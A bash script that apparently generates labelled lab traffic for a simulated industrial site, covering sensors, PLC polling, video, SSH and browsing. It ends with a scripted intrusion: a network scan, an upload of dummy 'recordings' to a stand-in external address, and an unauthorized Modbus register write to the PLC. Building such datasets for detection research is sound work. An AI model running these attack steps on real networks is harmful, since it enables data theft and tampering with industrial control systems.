# What the site does on an ordinary day, sped up, and what an intruder does. Sourced by record.sh.
# Every loop is counted from the length of the recording, so that each recording has the same conversations.

# Repeats a command with a pause before each run: every SECONDS OFFSET COUNT COMMAND...
every() {
  local pause=$1 offset=$2 count=$3 i
  shift 3
  sleep "$offset"
  for ((i = 0; i < count; i++)); do
    "$@" || true
    sleep "$pause"
  done
}

# As often as fits into the recording, with three seconds for each run: chore SECONDS PAUSE OFFSET COMMAND...
chore() {
  local count=$((($1 - $3) / ($2 + 3)))
  every "$2" "$3" "$count" "${@:4}" &
  WORKERS+=("$!")
}

fetch() {
  local host=$1
  shift
  on "$host" curl -sSk --max-time 20 -o /dev/null "$@"
}

ask_time() {
  local host=$1
  on "$host" timeout 20 chronyd -x -Q -t 6 -u root -f /dev/null 'server time.site.test iburst maxsamples 1' \
    'cmdport 0' 'bindcmdaddress /' "pidfile /run/lab/chrony-$host.pid"
}

publish() {
  on sensor mosquitto_pub -h broker.site.test -i sensor-door -t site/hall/door -q 1 -m '{"open":false}'
}

# One long connection that publishes a reading every three seconds.
publish_readings() {
  local count=$1 i
  for ((i = 0; i < count; i++)); do
    echo "{\"celsius\":21.$((i % 10))}"
    sleep 3
  done | on sensor mosquitto_pub -h broker.site.test -i sensor-climate -t site/hall/temperature -q 0 -l
}

# One request on a connection of its own: modbus HOST UNIT "OPTIONS" [VALUE TO WRITE]
modbus() {
  local host=$1 unit=$2 options
  read -ra options <<<"$3"
  on "$host" timeout 20 mbpoll -m tcp -a 1 -0 "${options[@]}" "$unit" "${@:4}"
}

poll_once() {
  modbus scada plc.site.test '-1 -t 0 -r 0 -c 8' || true
  modbus scada plc.site.test '-1 -t 1 -r 0 -c 8' || true
  modbus scada plc.site.test '-1 -t 3 -r 10 -c 4'
}

administrate() {
  local target=$1
  on admin timeout 30 ssh -F none -i "$RUN/ssh-key" -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
    -o BatchMode=yes "root@$target.site.test" 'uptime; df / | tail -1; sleep 2; uname -r'
}

browse() {
  fetch pc http://www.site.test/ || true
  fetch pc https://www.site.test/ || true
  fetch pc https://wiki.site.test/ || true
  fetch pc https://www.news.example/
}

check_firmware() {
  fetch camera https://firmware.camvendor.example/version || true
  fetch camera http://firmware.camvendor.example/version
}

record_video() {
  on nvr timeout "$(($1 + 15))" ffmpeg -nostdin -v error -rtsp_flags listen -i rtsp://nvr.site.test:554/lobby -c copy -f null -
}

send_video() {
  sleep 2
  on camera timeout "$(($1 + 10))" ffmpeg -nostdin -v error -re -f lavfi -i testsrc2=size=176x144:rate=5 -t "$1" \
    -c:v libx264 -preset ultrafast -tune zerolatency -b:v 40k -maxrate 50k -bufsize 50k -g 50 \
    -f rtsp -rtsp_transport tcp -pkt_size 560 rtsp://nvr.site.test:554/lobby
}

background() {
  "$@" &
  WORKERS+=("$!")
}

# Ordinary work for the given number of seconds; returns at once, work_end waits for it.
work_begin() {
  local seconds=$1
  WORKERS=()
  background record_video "$seconds"
  background send_video "$((seconds - 6))"
  background on web timeout "$seconds" mosquitto_sub -h broker.site.test -i dashboard -t 'site/#' -q 1
  background publish_readings "$(((seconds - 6) / 3))"
  background on scada timeout "$((seconds - 2))" mbpoll -m tcp -a 1 -0 -t 4 -r 0 -c 10 -l 2000 plc.site.test
  chore "$seconds" 8 2 publish
  chore "$seconds" 6 3 poll_once
  chore "$seconds" 20 9 modbus scada plc.site.test '-t 4 -r 5' 42
  chore "$seconds" 8 4 browse
  chore "$seconds" 18 6 check_firmware
  chore "$seconds" 18 8 administrate nvr
  chore "$seconds" 18 16 administrate web
  local host offset=1
  for host in camera nvr sensor plc pc; do
    chore "$seconds" 15 "$offset" ask_time "$host"
    offset=$((offset + 2))
  done
}

work_end() {
  wait "${WORKERS[@]}" || true
}

# The intruder owns the camera, then the recorder, then the office PC. truth.py tells the packets by these ends.
attack() {
  sleep 12
  on camera nmap -sS -n --top-ports 50 --max-rate 250 --max-retries 1 --source-port 61000 10.20.0.0/24 || true
  sleep 2
  head -c 1800000 /dev/urandom >"$RUN/recordings"
  fetch nvr --limit-rate 300k --max-time 20 -T "$RUN/recordings" https://203.0.113.66/upload/a.bin || true
  sleep 2
  modbus pc 10.20.0.31 '-t 4 -r 5' 999 || true
}
